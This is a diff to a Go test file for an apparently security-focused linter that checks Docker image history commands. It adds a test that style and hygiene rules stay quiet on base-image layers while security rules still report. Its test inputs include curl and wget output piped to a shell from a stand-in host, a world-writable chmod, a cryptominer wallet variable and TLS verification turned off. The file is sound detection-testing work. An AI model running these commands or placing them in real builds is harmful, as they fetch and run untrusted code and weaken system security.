@@ -4,6 +4,7 @@ import (
 	"errors"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -177,7 +178,8 @@ func TestCheckCommand(t *testing.T) {
 		want      string // a rule that must be reported ("" = none at all)
 	}{
 		{"/bin/sh -c curl -fsSL http://x.example/i.sh | sh", "CurlPipeShell"},
-		{"|2 A=1 B=2 /bin/sh -c apt-get update && apt-get install -y curl", "NoInstallRecommends"},
+		{"|2 A=1 B=2 /bin/sh -c apt-get update && apt-get install -y curl", ""},
+		{"|1 D=/data /bin/sh -c mkdir $D && cd $D && chmod 777 /data", "WorldWritable"},
 		{"RUN /bin/sh -c wget -qO- https://x.example/m | bash # buildkit", "CurlPipeShell"},
 		{"/bin/sh -c #(nop)  ENV WALLET=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "MinerIndicator"},
 		{"/bin/sh -c #(nop)  CMD [\"sh\"]", ""},
@@ -201,6 +203,22 @@ func TestCheckCommand(t *testing.T) {
 		if !found {
 			t.Errorf("CheckCommand(%q) = %+v, want a %s finding", tc.createdBy, got, tc.want)
 		}
+	}
+}
+
+// TestCheckCommandSkipsHygiene: a base image's history is not the user's Dockerfile, so the
+// style and layer-hygiene rules stay quiet there while the security rules still report.
+func TestCheckCommandSkipsHygiene(t *testing.T) {
+	got := CheckCommand("/bin/sh -c cd /src && apt install curl | tee log && curl -k https://x.example/a -o a")
+	var names []string
+	for _, f := range got {
+		names = append(names, f.Rule)
+		if historyHygiene[Lookup(f.Rule)] {
+			t.Errorf("CheckCommand reported hygiene rule %s: %s", f.Rule, f.Message)
+		}
+	}
+	if !slices.Contains(names, "TLSVerifyDisabled") {
+		t.Errorf("CheckCommand rules = %v, want TLSVerifyDisabled", names)
 	}
 }
 
